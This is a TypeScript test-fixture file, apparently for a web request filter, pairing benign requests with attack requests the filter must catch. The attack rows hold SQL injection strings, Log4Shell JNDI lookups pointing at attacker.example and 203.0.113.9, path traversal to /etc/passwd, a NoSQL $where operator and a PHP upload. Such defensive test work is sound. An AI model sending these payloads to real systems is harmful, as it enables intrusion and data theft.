import type { AppRequest } from './app.ts';

export interface Row {
  readonly name: string;
  readonly request: AppRequest;
}

interface AttackRow extends Row {
  /** Of the evidence, or its beginning, as the log names it. */
  readonly place: string;
}

const sqli = "' OR 1=1 --";
const jndi = '${jndi:ldap://attacker.example/a}';
const enc = encodeURIComponent;
const form = { 'content-type': 'application/x-www-form-urlencoded' };
const json = { 'content-type': 'application/json' };

function basic(user: string, password: string): string {
  return `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;
}

function part(disposition: string, text: string): Pick<AppRequest, 'method' | 'headers' | 'body'> {
  return {
    method: 'POST',
    headers: { 'content-type': 'multipart/form-data; boundary=frontier' },
    body:
      `--frontier\r\ncontent-disposition: form-data; ${disposition}\r\n\r\n${text}\r\n` +
      '--frontier--\r\n',
  };
}

function post(headers: Readonly<Record<string, string>>, body: string | Buffer): AppRequest {
  return { method: 'POST', headers, body };
}

/** What must reach the application, with its body untouched. */
export const honest: readonly Row[] = [
  { name: 'a query', request: { target: `/search?q=${enc("Conan O'Brien")}&page=2&page=3` } },
  { name: 'a path', request: { target: '/caf%C3%A9/10%25%20off' } },
  { name: 'a cookie', request: { headers: { cookie: 'theme=dark; seen=3; theme=light' } } },
  {
    name: 'headers of a browser, and a token',
    request: {
      headers: {
        accept: 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8',
        'if-none-match': 'W/"5e-19a2b3c4d5", "x"',
        authorization: 'Bearer abc.def',
      },
    },
  },
  {
    name: 'a secret that would be refused if it were sent',
    request: { headers: { authorization: 'Bearer ../../../etc/passwd' } },
  },
  {
    name: 'a password that would be refused if it were sent',
    request: { headers: { authorization: basic('alice', sqli) } },
  },
  { name: 'a form', request: post(form, `text=${enc('select the best; drop by!')}&text=&a=1`) },
  {
    name: 'JSON',
    request: post(json, '{"a":{"b":["日本語",1,null]},"url":"https://a.example//b"}'),
  },
  { name: 'JSON that is a text', request: post(json, '"hello"') },
  { name: 'broken JSON', request: post(json, '{"a":') },
  { name: 'a plain text', request: post({ 'content-type': 'text/plain' }, "it's 5 o'clock") },
  { name: 'bytes', request: post({ 'content-type': 'image/png' }, Buffer.from([137, 80, 255, 0])) },
  { name: 'a post without a body', request: { method: 'POST' } },
  { name: 'a form with a file', request: part('name="f"; filename="cat.png"', 'meow') },
  {
    name: 'a post from the same site',
    request: post({ ...form, ...siteOf('same-origin') }, 'a=b'),
  },
];

/** What must not. */
export const attacks: readonly AttackRow[] = [
  { name: 'in a query', request: { target: `/search?q=${enc(sqli)}` }, place: '/query.q' },
  {
    name: 'in the second of a name in the query',
    request: { target: `/search?q=a&q=${enc(sqli)}` },
    place: '/query.q/1',
  },
  {
    name: 'in the first of a name in the query',
    request: { target: `/search?q=${enc(sqli)}&q=a` },
    place: '/query.q/0',
  },
  {
    name: 'in a name',
    request: { target: `/search?${enc(sqli)}=1` },
    place: 'the field name of /query.',
  },
  {
    name: 'in the path',
    request: { target: `/files/${enc('../../../etc/passwd')}` },
    place: '/path',
  },
  {
    name: 'in bytes that are no text',
    request: { target: '/?f=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd' },
    place: '/query.f',
  },
  { name: 'in a cookie', request: { headers: { cookie: `a=b; c=${sqli}` } }, place: '/cookie.c' },
  {
    name: 'in a header',
    request: { headers: { 'user-agent': '${jndi:ldap://203.0.113.9/a}' } },
    place: '/header.user-agent',
  },
  {
    name: 'in a header that few know',
    request: { headers: { 'x-api-version': jndi } },
    place: '/header.x-api-version',
  },
  {
    name: 'in the second line of a header',
    request: { headers: { 'x-tag': ['a', jndi] } },
    place: '/header.x-tag',
  },
  {
    name: 'across two lines of a header',
    request: { headers: { 'x-tag': ['1 UNION SELECT name', 'password FROM users'] } },
    place: '/header.x-tag',
  },
  {
    name: 'in the place of a secret',
    request: { headers: { authorization: jndi } },
    place: '/header.authorization',
  },
  {
    name: 'in the name of a user',
    request: { headers: { authorization: basic(sqli, 'secret') } },
    place: '/header.authorization.user',
  },
  { name: 'in a form', request: post(form, `a=1&b=${enc(sqli)}`), place: '/body.b' },
  { name: 'in JSON', request: post(json, JSON.stringify({ a: [{ b: sqli }] })), place: '/body' },
  { name: 'in a name of JSON', request: post(json, '{"a":{"$where":"1"}}'), place: '' },
  {
    name: 'in JSON under a name that comes twice',
    request: post(json, `{"a":"${sqli}","a":"x"}`),
    place: '/body',
  },
  {
    name: 'in JSON that only some readers take',
    request: post(json, `{"n":NaN,"a":"${sqli}"}`),
    place: '/body',
  },
  {
    name: 'in JSON with a comment',
    request: post(json, `{"a":"${sqli}"/* */}`),
    place: '/body',
  },
  {
    name: 'in a plain text',
    request: post({ 'content-type': 'text/plain' }, sqli),
    place: '/body',
  },
  { name: 'in a body of no type', request: post({}, sqli), place: '/body' },
  { name: 'in a field of a multipart form', request: part('name="a"', sqli), place: '/body' },
  {
    name: 'in a field of a multipart form that is put',
    request: { ...part('name="a"', sqli), method: 'PUT' },
    place: '/body',
  },
  {
    name: 'in a field that has a type with a name',
    request: part('name="a"\r\ncontent-type: text/plain; name=b', sqli),
    place: '/body',
  },
  {
    name: 'in a multipart body that is no form',
    request: {
      ...part('name="a"', sqli),
      headers: { 'content-type': 'multipart/other; boundary=frontier' },
    },
    place: '/body',
  },
  {
    name: 'in the name of a file',
    request: part('name="f"; filename="me.php"', '<?php'),
    place: '/body',
  },
  {
    name: 'in a chunked body',
    request: {
      ...post(form, `a=${enc(sqli)}`),
      headers: { ...form, 'transfer-encoding': 'chunked' },
    },
    place: '/body.a',
  },
  {
    name: 'from another site',
    request: post({ ...form, ...siteOf('cross-site') }, 'amount=100&to=mallory'),
    place: '/header.origin',
  },
];

function siteOf(site: string): Readonly<Record<string, string>> {
  return { 'sec-fetch-site': site, origin: `https://${site}.example` };
}
